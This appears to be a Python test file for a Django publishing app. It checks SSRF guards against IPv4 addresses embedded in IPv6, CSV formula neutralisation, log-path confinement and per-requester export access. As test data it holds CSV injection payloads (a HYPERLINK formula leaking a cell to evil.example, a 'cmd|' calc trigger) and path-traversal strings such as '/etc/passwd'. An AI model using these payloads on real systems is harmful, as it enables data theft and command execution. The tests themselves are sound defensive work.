"""Issue 20 item 6, the smaller holes, each by a generator of its class:

* the SSRF guard judges an IPv6 address that embeds an IPv4 one (IPv4-mapped and -compatible,
  6to4, NAT64, Teredo) by the IPv4 address: every non-public IPv4 range, in every form, is refused
  before a connection opens (2002:7f00:1:: was "public");
* every CSV cell whose first visible character folds to = + - @ (fullwidth, small, superscript
  forms), behind any invisible characters, or that starts with a tab or line break, is
  neutralised — in the ATIP export and in `export_audit --format csv`;
* a log channel's file stays inside PUBLICATION_LOG_DIR: absolute paths, `..`, symbolic links
  (at save and planted later) and missing folders are refused, and nothing is created outside;
* an ATIP export is its requester's alone: a superuser neither lists, reads nor downloads it."""
from __future__ import annotations

import csv
import io
import ipaddress
import itertools
import json
import os
import socket
import zipfile
from datetime import UTC, datetime

import pytest
from django.core.exceptions import ValidationError
from django.core.management import call_command
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.workflows import factories as f
from workflows import outbound
from workflows.channels import get_adapter
from workflows.channels.base import OutboundMessage
from workflows.csvsafe import csv_cell
from workflows.models import AtipExport

# --- embedded IPv4 in IPv6 ---------------------------------------------------------------------

NON_PUBLIC_V4 = ["127.0.0.0/8", "10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "169.254.0.0/16", "0.0.0.0/8",
                 "100.64.0.0/10", "192.0.0.0/24", "198.18.0.0/15", "224.0.0.0/4", "240.0.0.0/4"]


@st.composite
def non_public_v4(draw) -> ipaddress.IPv4Address:
    net = ipaddress.ip_network(draw(st.sampled_from(NON_PUBLIC_V4)))
    return net[draw(st.integers(0, net.num_addresses - 1))]


def _forms(v4: ipaddress.IPv4Address, rest: int) -> dict[str, ipaddress.IPv6Address]:
    """`v4` carried by each IPv6 form a gateway or tunnel may deliver to it."""
    n = int(v4)
    return {
        "mapped": ipaddress.IPv6Address((0xFFFF << 32) | n),
        "compatible": ipaddress.IPv6Address(n),
        "6to4": ipaddress.IPv6Address((0x2002 << 112) | (n << 80) | (rest & ((1 << 80) - 1))),
        "nat64": ipaddress.IPv6Address((0x0064FF9B << 96) | n),
        "nat64-local": ipaddress.IPv6Address((0x0064FF9B0001 << 80) | ((rest & 0xFFFFFFFFFFFF) << 32) | n),
        "teredo-client": ipaddress.IPv6Address((0x20010000 << 96) | (int(ipaddress.IPv4Address("8.8.4.4")) << 64)
                                               | ((rest & 0xFFFFFFFF) << 32) | (~n & 0xFFFFFFFF)),
        "teredo-server": ipaddress.IPv6Address((0x20010000 << 96) | (n << 64) | (rest & 0xFFFFFFFF)),
    }


@given(v4=non_public_v4(), rest=st.integers(0, 2**80 - 1))
@settings(max_examples=400, deadline=None, derandomize=True)
def test_every_embedded_non_public_ipv4_is_refused(v4, rest):
    if outbound.is_public(v4):  # a few addresses of these ranges are global (192.0.0.9, …)
        return
    for form, v6 in _forms(v4, rest).items():
        assert not outbound.is_public(v6), (form, v6, v4)


def test_the_6to4_loopback_is_refused_before_any_connection(monkeypatch, settings):
    settings.OUTBOUND_ALLOW_HOSTS = []

    def fake_getaddrinfo(host, port, *args, **kwargs):
        return [(socket.AF_INET6, socket.SOCK_STREAM, 6, "", ("2002:7f00:1::", port, 0, 0))]

    monkeypatch.setattr(socket, "getaddrinfo", fake_getaddrinfo)
    monkeypatch.setattr(socket.socket, "connect", lambda *a: pytest.fail("connected"))
    with pytest.raises(outbound.OutboundRefused):
        outbound.resolve_checked("evil.example", 443)
    with pytest.raises(outbound.OutboundRefused):
        outbound.check_url("https://evil.example/hook")


def test_public_addresses_stay_public_in_their_embedded_forms():
    for v4 in ("8.8.8.8", "1.1.1.1", "203.0.114.7"):
        v6 = _forms(ipaddress.IPv4Address(v4), 0x1234)
        assert outbound.is_public(v6["mapped"]) and outbound.is_public(v6["6to4"])
    assert outbound.is_public(ipaddress.ip_address("2606:4700::1111"))


# --- CSV cells ---------------------------------------------------------------------------------

INVISIBLE = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u202e", "\u202d", "\u2066", "\u2069",
             "\u200e", "\u200f", "\u180e", " ", "\u00a0", "\u3000", "\u2009", "\u0301", "\u034f"]
TRIGGERS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62", "\ufe63", "\ufe6b",
            "\u207c", "\u207a", "\u207b", "\u208c", "\u208a", "\u208b"]
PAYLOADS = ["HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "1+1", "cmd|' /C calc'!A0", "SUM(A1:A9)"]


@given(hidden=st.lists(st.sampled_from(INVISIBLE), max_size=4), trigger=st.sampled_from(TRIGGERS),
       payload=st.sampled_from(PAYLOADS))
@settings(max_examples=500, deadline=None, derandomize=True)
def test_a_formula_behind_any_invisible_prefix_is_neutralised(hidden, trigger, payload):
    cell = "".join(hidden) + trigger + payload
    assert csv_cell(cell) == "'" + cell


def test_tabs_and_line_breaks_first_are_neutralised_and_plain_text_is_untouched():
    for lead in ("\t", "\r", "\n", "\u200b\t"):
        assert csv_cell(lead + "=1").startswith("'")
    for text in ("Bonjour", "email a@b.example", "1-800", "€5", "", "«=»", "a=b"):
        assert csv_cell(text) == text
    assert csv_cell(None) == "" and csv_cell({"k": "=1"}) == '{"k": "=1"}'


@pytest.mark.django_db
def test_export_audit_csv_neutralises_formulas(demo, tmp_path):
    post = f.at_review(demo)
    from workflows.services import reviews

    reviews.post_request_changes(post_id=post.id, by=demo.rami, comment="\u200b\uff1dHYPERLINK(\"x\")")
    out = tmp_path / "audit.csv"
    call_command("export_audit", post=post.id, format="csv", output=str(out))
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert rows and all(not (cell or "").lstrip("\u200b").startswith(("=", "\uff1d")) for r in rows for cell in r.values())


@pytest.mark.django_db
def test_the_atip_export_neutralises_formulas_in_every_csv(demo, tmp_path, settings, django_capture_on_commit_callbacks):
    from workflows.services import atip

    settings.EXPORT_ROOT = tmp_path / "exports"
    settings.CELERY_TASK_ALWAYS_EAGER = True
    post = f.official_draft(demo, texts={"en": "\u2060\uff1dSUM(A1:A9)*CMD(\"calc\")", "fr": f.FR})
    with django_capture_on_commit_callbacks(execute=True):
        export = atip.atip_export_request(by=demo.cora, post_id=post.id)
    export.refresh_from_db()
    _, path = atip.atip_export_download(export_id=export.id, by=demo.cora)
    zf = zipfile.ZipFile(path)
    cells = [cell for name in zf.namelist() if name.endswith(".csv")
             for row in csv.reader(io.StringIO(zf.read(name).decode("utf-8"))) for cell in row]
    assert any("SUM(A1:A9)" in c for c in cells)
    assert all(c == "" or not c.lstrip("\u2060").startswith(("=", "\uff1d")) for c in cells)


# --- the log channel's file --------------------------------------------------------------------

def _msg() -> OutboundMessage:
    return OutboundMessage(idempotency_key="k-1", body="Hello", language="en",
                           created_at=datetime(2026, 12, 7, tzinfo=UTC))


@pytest.fixture
def log_dir(settings, tmp_path):
    folder = tmp_path / "logs"
    folder.mkdir()
    (folder / "sub").mkdir()
    settings.PUBLICATION_LOG_DIR = str(folder)
    settings.PUBLISH_LOG_PATH = str(folder / "publications.log")
    return folder


ESCAPES = ["/etc/passwd", "/tmp/x.log", "../x.log", "../../x.log", "sub/../../x.log", "./../x.log", ".", "",
           "sub/..", "sub/../../logs2/x.log", "missing/x.log", "a/b/c/x.log", "\x00.log", "link-out/x.log",
           "link-file.log"]


@pytest.mark.django_db
def test_a_log_channel_path_stays_inside_the_folder(demo, log_dir, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    os.symlink(outside, log_dir / "link-out")
    os.symlink(outside / "target.log", log_dir / "link-file.log")
    channel = demo.channel("dpe-en")
    channel.adapter = "log"
    # generated: every escape, with and without a leading ./ and repeated separators
    tried = 0
    for path, prefix in itertools.product(ESCAPES, ["", "./", ".//"]):
        if not path:
            continue
        channel.adapter_config = {"path": prefix + path}
        with pytest.raises(ValidationError):
            channel.full_clean()
        tried += 1
    assert tried >= 40
    for good in ("mine.log", "sub/mine.log", str(log_dir / "abs.log")):
        channel.adapter_config = {"path": good}
        channel.full_clean()
        get_adapter(channel).send(_msg())
    assert sorted(p.name for p in log_dir.rglob("*.log") if not p.is_symlink()) == ["abs.log", "mine.log", "mine.log"]
    assert list(outside.iterdir()) == []  # nothing written or created outside


@pytest.mark.django_db
def test_a_link_planted_after_the_save_leads_nowhere(demo, log_dir, tmp_path):
    channel = demo.channel("dpe-en")
    channel.adapter, channel.adapter_config = "log", {"path": "later.log"}
    channel.full_clean()
    outside = tmp_path / "outside.log"
    os.symlink(outside, log_dir / "later.log")
    with pytest.raises(outbound.ConfigError):
        get_adapter(channel).send(_msg())
    assert not outside.exists()


# --- ATIP exports: the requester's alone ---------------------------------------------------------

@pytest.mark.django_db
def test_a_superuser_neither_lists_reads_nor_downloads_someone_elses_export(demo, tmp_path, settings,
                                                                         django_capture_on_commit_callbacks):
    from rest_framework.test import APIClient

    from accounts.services import token_issue

    settings.EXPORT_ROOT = tmp_path / "exports"
    settings.CELERY_TASK_ALWAYS_EAGER = True
    post = f.published(demo)
    cora = APIClient()
    cora.credentials(HTTP_AUTHORIZATION=f"Token {token_issue(user=demo.cora)[1]}")
    with django_capture_on_commit_callbacks(execute=True):
        created = cora.post("/api/v1/exports/", {"post": post.id}, format="json").json()
    assert AtipExport.objects.get(id=created["id"]).state == "done"
    admin = APIClient()
    admin.credentials(HTTP_AUTHORIZATION=f"Token {token_issue(user=demo.admin)[1]}")
    assert demo.admin.is_superuser
    assert admin.get("/api/v1/exports/").json()["count"] == 0
    assert admin.get(f"/api/v1/exports/{created['id']}/").status_code == 404
    assert admin.get(f"/api/v1/exports/{created['id']}/download/").status_code == 404
    assert AtipExport.objects.get(id=created["id"]).downloads == 0
    got = cora.get(f"/api/v1/exports/{created['id']}/download/")
    assert got.status_code == 200 and json.loads(zipfile.ZipFile(io.BytesIO(b"".join(got.streaming_content)))
                                                 .read("export.json"))["posts"]
